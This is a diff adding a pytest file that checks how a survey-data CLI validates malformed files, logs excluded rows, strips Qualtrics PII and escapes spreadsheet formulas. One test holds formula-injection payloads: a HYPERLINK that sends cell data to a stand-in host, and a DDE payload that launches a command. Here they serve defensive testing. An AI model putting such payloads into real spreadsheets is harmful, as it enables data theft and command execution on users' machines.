@@ -1,0 +1,342 @@
+"""Malformed input: the exact outcome of `connlab validate` on every file of tests/data/bad/.
+
+The corpus and MANIFEST.csv are committed; `tests/data/bad/make_corpus.py` re-creates them
+(a test below checks that it reproduces the committed text files byte for byte). Nothing here
+regenerates the corpus: the tests read the committed files.
+
+House rule pinned here: bad input gets a clear error naming file, column, row and value (exit 2
+when the file cannot be read, 1 when values do not fit the codebook), never a traceback, and
+every row read is either analysed or excluded with its reason. Manifest rows with an `xfail`
+reason are known bugs: their expected_* columns hold the behaviour we want.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pandas as pd
+import pytest
+import yaml
+
+from analysis.cli import main
+from analysis.io import load_dataset
+from analysis.readers import read_table
+from analysis.validate import EXCLUSION_REASONS, ValidationError, flow
+
+BAD = Path(__file__).resolve().parent / "data" / "bad"
+MANIFEST_COLUMNS = ["file", "codebook", "strict", "kind", "expected_exit", "expected_message", "xfail"]
+LIBRARY_MADE = (".sav", ".dta", ".xlsx")  # written by pyreadstat/openpyxl; all else is plain bytes
+with open(BAD / "MANIFEST.csv", encoding="utf-8", newline="") as _fh:
+    MANIFEST = list(csv.DictReader(_fh))
+
+
+def _id(row: dict) -> str:
+    return f"{row['file']}|{row['codebook'] or '-'}|{'strict' if row['strict'] == '1' else 'lenient'}"
+
+
+def _params(rows, *, xfail_marks: bool = True):
+    out = []
+    for row in rows:
+        marks = [pytest.mark.xfail(strict=True, reason=row["xfail"])] if (row["xfail"] and xfail_marks) else []
+        out.append(pytest.param(row, marks=marks, id=_id(row)))
+    return out
+
+
+def _argv(row: dict, *extra: str) -> list[str]:
+    argv = ["validate", "--data", str(BAD / row["file"])]
+    if row["codebook"]:
+        argv += ["--codebook", str(BAD / row["codebook"])]
+    if row["strict"] == "1":
+        argv.append("--strict")
+    return argv + list(extra)
+
+
+def _run(argv, capsys) -> tuple[int, str]:
+    code = main(argv)
+    captured = capsys.readouterr()
+    return code, captured.out + captured.err
+
+
+def _row(file: str, codebook: str = "", strict: str = "0") -> dict:
+    return next(r for r in MANIFEST if (r["file"], r["codebook"], r["strict"]) == (file, codebook, strict))
+
+
+# ------------------------------------------------------------------------------- the manifest
+def test_manifest_is_well_formed():
+    with open(BAD / "MANIFEST.csv", encoding="utf-8", newline="") as fh:
+        assert next(csv.reader(fh)) == MANIFEST_COLUMNS
+    assert len({_id(r) for r in MANIFEST}) == len(MANIFEST), "duplicate manifest rows"
+    for row in MANIFEST:
+        assert (BAD / row["file"]).is_file(), row["file"]
+        assert not row["codebook"] or (BAD / row["codebook"]).is_file(), row["codebook"]
+        assert row["strict"] in ("0", "1") and row["expected_exit"] in ("0", "1", "2") and row["kind"]
+        re.compile(row["expected_message"])
+    inputs = {r["file"] for r in MANIFEST} | {r["codebook"] for r in MANIFEST if r["codebook"]}
+    on_disk = {p.name for p in BAD.iterdir() if p.is_file()} - {"make_corpus.py", "MANIFEST.csv"}
+    assert on_disk == inputs, "every corpus file is used by a manifest row, and only corpus files are present"
+    data_files = {r["file"] for r in MANIFEST if not r["file"].endswith(".yaml")}
+    assert len(data_files) >= 40
+    sizes = {p.name: p.stat().st_size for p in BAD.iterdir() if p.is_file() and p.name != "make_corpus.py"}
+    assert max(sizes, key=sizes.get) == "free_text_200k.csv" and sizes["free_text_200k.csv"] <= 200 * 1024
+
+
+def test_no_codebook_is_picked_up_by_accident():
+    """The CLI looks for codebook.yaml / <stem>.codebook.yaml beside a data file."""
+    names = {p.name for p in BAD.iterdir()}
+    assert not names & {"codebook.yaml", "codebook.yml"}
+    assert not [n for n in names if n.endswith(".codebook.yaml")]
+
+
+# ----------------------------------------------------------------- one run per manifest row
+@pytest.mark.parametrize("row", _params(MANIFEST))
+def test_validate_outcome(row, capsys):
+    code, text = _run(_argv(row), capsys)
+    assert "Traceback" not in text
+    assert code == int(row["expected_exit"]), text
+    assert re.search(row["expected_message"], text), f"{row['expected_message']!r} not found in:\n{text}"
+    if code == 2:
+        assert "connlab validate: error: " in text
+    else:
+        assert "Row ledger (every row read is analysed or excluded):" in text
+
+
+# --------------------------------------------------------- ledger: read = analysed + excluded
+LOADS = [r for r in MANIFEST if r["expected_exit"] != "2"]
+
+
+def _records_in_file(path: Path, fmt) -> int:
+    """Data records in a file, counted independently of analysis.readers (blank records skipped)."""
+    if fmt.kind in ("csv", "qualtrics"):
+        text = path.read_bytes().decode(fmt.encoding)
+        limit = csv.field_size_limit(1 << 30)
+        try:
+            records = [r for r in csv.reader(io.StringIO(text, newline=""), delimiter=fmt.sep)
+                       if any(c.strip() for c in r)]  # fmt: skip
+        finally:
+            csv.field_size_limit(limit)
+        hint = records and len(records[0]) == 1 and records[0][0].lower().startswith("sep=")  # Excel's hint line
+        return len(records) - fmt.header_rows - bool(hint)
+    if fmt.kind == "xlsx":
+        from openpyxl import load_workbook
+
+        wb = load_workbook(io.BytesIO(path.read_bytes()), read_only=True)  # any file name (xlsx_named.csv)
+        ws = wb.worksheets[fmt.sheet] if isinstance(fmt.sheet, int) else wb[fmt.sheet]
+        rows = [r for r in ws.iter_rows(values_only=True) if any(v is not None for v in r)]
+        wb.close()
+        return len(rows) - 1
+    import pyreadstat
+
+    reader = pyreadstat.read_sav if fmt.kind == "sav" else pyreadstat.read_dta
+    return reader(str(path), metadataonly=True)[1].number_rows
+
+
+@pytest.mark.parametrize("row", _params(LOADS, xfail_marks=False))
+def test_ledger_accounts_for_every_row(row):
+    strict = row["strict"] == "1"
+    codebook = BAD / row["codebook"] if row["codebook"] else None
+    try:
+        ds = load_dataset(BAD / row["file"], codebook=codebook, strict=strict)
+    except ValidationError as exc:  # strict: loading fails, the ledger comes with the error
+        assert strict
+        ledger, tables, files = exc.ledger, None, None
+        assert set(exc.problems["row"]) <= set(ledger.loc[ledger["reason"] == "invalid_value", "row"])
+    except Exception as exc:  # a known bug stops loading (see the manifest's xfail column)
+        if row["xfail"]:
+            pytest.xfail(f"{row['xfail']} ({type(exc).__name__})")
+        raise
+    else:
+        ledger, tables, files = ds.ledger, ds.tables, {f.table: f.rows for f in ds.files}
+    assert len(ledger) and set(ledger["status"]) <= {"analysed", "excluded"}
+    for table, part in ledger.groupby("table", sort=False):
+        n = len(part)
+        assert part["row"].tolist() == list(range(1, n + 1)), "each row read appears once in the ledger"
+        excluded = part[part["status"] == "excluded"]
+        analysed = part[part["status"] == "analysed"]
+        assert excluded["reason"].isin(list(EXCLUSION_REASONS)).all() and analysed["reason"].isna().all()
+        steps = flow(ledger)
+        steps = steps[steps["table"] == table]
+        assert steps.iloc[0]["step"] == "rows read" and steps.iloc[0]["remaining"] == n
+        assert steps.iloc[-1]["step"] == "analysed" and steps.iloc[-1]["remaining"] == len(analysed)
+        assert n == len(analysed) + steps["excluded"].sum()
+        if tables is not None:
+            assert files[table] == n, "rows read by the reader = rows in the ledger"
+            assert tables[table].index.tolist() == analysed["row"].tolist()
+            path = Path(next(f.path for f in ds.files if f.table == table))
+            assert n == _records_in_file(path, ds.formats[table]), "a data record of the file is not in the ledger"
+
+
+# ------------------------------------------------------------------------------ targeted tests
+def test_sav_value_labels_and_user_missing_are_honoured():
+    raw = read_table(BAD / "valid_labels_missing.sav")
+    assert raw.format.kind == "sav"
+    assert raw.labels == {"person_id": "Respondent id", "gender": "Gender", "sat": "Relationship satisfaction"}
+    assert raw.value_labels["gender"] == {1.0: "man", 2.0: "woman", 3.0: "other", -99.0: "refused"}
+    assert raw.value_labels["sat"][98.0] == "don't know"
+    assert raw.user_missing == {"gender": [-99.0], "sat": [{"range": [98.0, 99.0]}]}
+    # the codebook lists neither -99 nor 98/99: the file's own missing values make them missing
+    ds = load_dataset(BAD / "valid_labels_missing.sav", codebook=BAD / "sav.cb.yaml")
+    assert ds.problems.empty
+    table = ds.table()
+    assert table["gender"].tolist() == [1, 2, pd.NA, 3, 2, 1]
+    assert table["sat"].tolist() == [5, 7, pd.NA, 3, pd.NA, 6]
+    # without declared user-missing values the same -99 is a problem (manifest: ..._strict.sav)
+    strict_raw = read_table(BAD / "valid_labels_missing_strict.sav")
+    assert strict_raw.user_missing == {} and -99.0 in strict_raw.frame["gender"].tolist()
+
+
+def test_sav_labels_reach_the_draft_codebook():
+    from analysis.codebook import draft_codebook
+
+    gender = draft_codebook(BAD / "valid_labels_missing.sav")["tables"]["data"]["variables"]["gender"]
+    assert gender["label"] == "Gender" and gender["missing_codes"] == [-99.0]
+    assert gender["value_labels"] == {1: "man", 2: "woman", 3: "other", -99: "refused"}
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "draft_codebook turns a labelled integer item into `categorical` with `values` = the labelled codes only "
+    "([1, 7, 98, 99] when only the scale ends are labelled), so 5, 3 and 6 fail; its `range` also ignores "
+    "missing ranges ([3, 98])"))  # fmt: skip
+def test_draft_codebook_of_a_sav_validates_its_own_file(tmp_path, capsys):
+    assert main(["codebook", "--data", str(BAD / "valid_labels_missing.sav"), "--out", str(tmp_path / "cb.yaml")]) == 0
+    code, text = _run(["validate", "--data", str(BAD / "valid_labels_missing.sav"), "--codebook",
+                       str(tmp_path / "cb.yaml")], capsys)  # fmt: skip
+    assert code == 0, text
+
+
+def test_dta_labels_are_read():
+    raw = read_table(BAD / "valid.dta")
+    assert raw.format.kind == "dta" and raw.labels["age"] == "Age in years"
+    assert raw.value_labels["group"] == {1: "control", 2: "treatment"}
+
+
+@pytest.mark.parametrize(("file", "codebook"), [
+    ("utf8_bom.csv", "survey.cb.yaml"), ("utf16_excel.txt", "survey.cb.yaml"),
+    ("utf16le_no_bom.txt", "survey.cb.yaml"), ("crlf.csv", "survey.cb.yaml"),
+    ("named_sheet.xlsx", "named_sheet.cb.yaml"), ("xlsx_named.csv", "named_sheet.cb.yaml"),
+])  # fmt: skip
+def test_encoding_and_format_variants_give_the_same_table(file, codebook):
+    reference = load_dataset(BAD / "survey_ok.csv", codebook=BAD / "survey.cb.yaml").table()
+    variant = load_dataset(BAD / file, codebook=BAD / codebook).table()
+    pd.testing.assert_frame_equal(variant, reference)
+
+
+def test_cp1252_and_decimal_comma_values():
+    ds = load_dataset(BAD / "cp1252_accents.csv", codebook=BAD / "accents.cb.yaml")
+    assert ds.formats["survey"].encoding == "cp1252"
+    assert list(ds.table().columns) == ["person_id", "âge", "ville"]
+    assert ds.table()["ville"].astype(str).tolist() == ["Zürich", "Besançon", "São Paulo", "Málaga"]
+    ds = load_dataset(BAD / "semicolon_decimal_comma.csv", codebook=BAD / "decimal.cb.yaml")
+    assert (ds.formats["survey"].sep, ds.formats["survey"].decimal) == (";", ",")
+    assert ds.table()["score"].tolist() == [3.5, 4.25, 6.0]
+    assert ds.table()["weight"].tolist() == [0.82, 1.1, 0.95]
+
+
+def test_extra_file_column_is_kept_as_text():
+    """Pinned: a column the codebook does not list is neither reported nor dropped."""
+    ds = load_dataset(BAD / "extra_column.csv", codebook=BAD / "survey.cb.yaml")
+    assert ds.problems.empty and ds.table()["mood_note"].tolist() == list("abcdef")
+
+
+@pytest.mark.parametrize(("file", "codebook", "row", "person", "reason"), [
+    ("duplicate_ids.csv", "survey.cb.yaml", 4, "3", "duplicate_id"),
+    ("attention_failed.csv", "survey.cb.yaml", 2, "2", "attention_check"),
+    ("speeder.csv", "survey.cb.yaml", 4, "4", "speeder"),
+    ("straight_liner.csv", "survey.cb.yaml", 5, "5", "straight_lining"),
+    ("too_many_missing.csv", "survey.cb.yaml", 6, "6", "too_many_missing"),
+    ("incomplete_dyad.csv", "survey_dyads.cb.yaml", 5, "5", "incomplete_dyad"),
+    ("diary_duplicate_day.csv", "diary.cb.yaml", 3, "1", "duplicate_id"),
+    ("likert_text.csv", "survey.cb.yaml", 2, "2", "invalid_value"),
+])  # fmt: skip
+def test_the_right_row_is_excluded_for_the_right_reason(file, codebook, row, person, reason):
+    strict = reason == "invalid_value"
+    try:
+        ledger = load_dataset(BAD / file, codebook=BAD / codebook, strict=strict).ledger
+    except ValidationError as exc:
+        ledger = exc.ledger
+    excluded = ledger[ledger["status"] == "excluded"]
+    assert excluded[["row", "id", "reason"]].values.tolist() == [[row, person, reason]]
+    assert excluded["line"].tolist() == [row + 1]
+
+
+def _output_texts(folder: Path) -> dict[str, str]:
+    return {p.name: p.read_text(encoding="utf-8") for p in folder.iterdir() if p.is_file()}
+
+
+def test_qualtrics_pii_columns_never_reach_written_files(tmp_path, capsys):
+    out = tmp_path / "processed"
+    code, text = _run(["validate", "--data", str(BAD / "qualtrics_pii.csv"), "--write", str(out)], capsys)
+    assert code == 0, text
+    ds = load_dataset(BAD / "qualtrics_pii.csv")
+    pii = ["IPAddress", "RecipientLastName", "RecipientFirstName", "RecipientEmail", "ExternalReference",
+           "LocationLatitude", "LocationLongitude"]  # fmt: skip
+    assert ds.removed_columns["column"].tolist() == pii
+    assert not set(pii) & set(ds.table().columns)
+    texts = _output_texts(out)
+    assert set(texts) == {"data.csv", "codebook.yaml", "ledger.csv", "problems.csv"}
+    assert pd.read_csv(out / "data.csv").columns.tolist() == [
+        "StartDate", "EndDate", "Status", "Progress", "Duration (in seconds)", "Finished", "RecordedDate",
+        "ResponseId", "DistributionChannel", "UserLanguage", "Q1", "Q2"]  # fmt: skip
+    secrets = pii + ["203.0.113.7", "198.51.100.23", "anna.muster@example.org", "ben.beispiel@example.org",
+                     "Muster", "Beispiel", "47.3769", "8.5417", "46.2044", "6.1432", "Recipient", "Location"]  # fmt: skip
+    for name, content in texts.items():
+        for secret in secrets:
+            assert secret not in content, f"{secret!r} written to {name}"
+
+
+def test_free_text_cell_of_200kb_is_read_and_dropped(tmp_path, capsys):
+    out = tmp_path / "processed"
+    argv = _argv(_row("free_text_200k.csv", "free_text_sep.cb.yaml"), "--write", str(out))
+    code, text = _run(argv, capsys)
+    assert code == 0, text
+    assert len(read_table(BAD / "free_text_200k.csv", format={"sep": ","}).frame.iloc[0]["comments"]) > 190_000
+    for name, content in _output_texts(out).items():
+        assert "comments" not in content and "friend's wedding" not in content, name
+
+
+def test_formula_cells_are_neutralised_in_written_files(tmp_path, capsys):
+    out = tmp_path / "processed"
+    code, text = _run(_argv(_row("formula_injection.csv", "formula.cb.yaml"), "--write", str(out)), capsys)
+    assert code == 1, text  # '=1+1' in the integer column is a problem (set to missing)
+    with open(out / "survey.csv", encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["note"] for r in rows] == [
+        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click me\")", "'+1", "'-2+3", "'@SUM(A1:A9)",
+        "'=cmd|' /C calc'!A0", "plain text"]  # fmt: skip
+    assert [r["person_id"] for r in rows] == ["1", "2", "3", "4", "5", "6"]
+    assert [r["score"] for r in rows] == ["4", "5", "6", "", "3", "2"]
+    with open(out / "problems.csv", encoding="utf-8", newline="") as fh:
+        problems = list(csv.DictReader(fh))
+    assert [(p["column"], p["row"], p["value"]) for p in problems] == [("score", "4", "'=1+1")]
+    for name, content in _output_texts(out).items():
+        for line in content.splitlines():
+            for cell in next(csv.reader([line])):
+                assert not cell.startswith(("=", "+", "@")), f"{name}: {cell!r}"
+    # in memory the values stay as they were typed
+    ds = load_dataset(BAD / "formula_injection.csv", codebook=BAD / "formula.cb.yaml")
+    assert ds.table()["note"].iloc[0].startswith("=HYPERLINK(")
+
+
+def test_codebook_pointing_at_a_missing_file_names_it(capsys):
+    code, text = _run(["validate", "--data", str(BAD / "missing_data_file.cb.yaml")], capsys)
+    assert code == 2 and str(BAD / "no_such_export.csv") in text
+    spec = yaml.safe_load((BAD / "missing_data_file.cb.yaml").read_text(encoding="utf-8"))
+    assert spec["tables"]["survey"]["file"] == "no_such_export.csv"
+
+
+# ------------------------------------------------------------------------ corpus reproducible
+def test_make_corpus_reproduces_the_committed_files(tmp_path):
+    result = subprocess.run([sys.executable, str(BAD / "make_corpus.py"), str(tmp_path)],
+                            capture_output=True, text=True, timeout=300, check=False)  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    made = {p.name for p in tmp_path.iterdir()}
+    committed = {p.name for p in BAD.iterdir() if p.is_file()} - {"make_corpus.py"}
+    assert made == committed
+    for name in sorted(made):
+        if name.endswith(LIBRARY_MADE) or (BAD / name).read_bytes()[:4] == b"PK\x03\x04":
+            continue  # made by pyreadstat/openpyxl: same name, bytes may differ across library versions
+        assert (tmp_path / name).read_bytes() == (BAD / name).read_bytes(), f"{name} differs from its committed copy"
